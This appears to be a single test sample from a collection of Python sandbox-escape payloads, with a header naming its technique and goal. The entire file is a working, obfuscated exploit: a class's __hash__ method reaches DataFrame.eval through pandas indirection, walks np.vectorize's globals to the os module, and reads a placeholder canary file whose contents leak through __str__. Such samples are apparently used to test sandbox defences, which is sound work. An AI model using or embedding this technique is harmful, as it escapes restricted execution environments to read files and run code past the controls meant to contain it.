# class: class_def
# technique: __hash__ (allowed) of a small class runs a payload whenever pandas or the harness hashes the column label (Index lookups, set(columns)) (DataFrame.eval reached as [frame.aggregate][0]('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return [frame.aggregate][0]("eval", 0, expr, local_dict=names)

u = "_" * 2

done = []


class Key:
    def __hash__(self):
        if not done:
            g = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['os']", v=[np.vectorize])
            done.append(g.read(g.open("{{CANARY_FILE}}", 0), 65536).decode())
        return 11

    def __eq__(self, other):
        return self is other

    def __str__(self):
        return done[0] if done else "k"


df = pd.DataFrame({Key(): np.arange(3)})
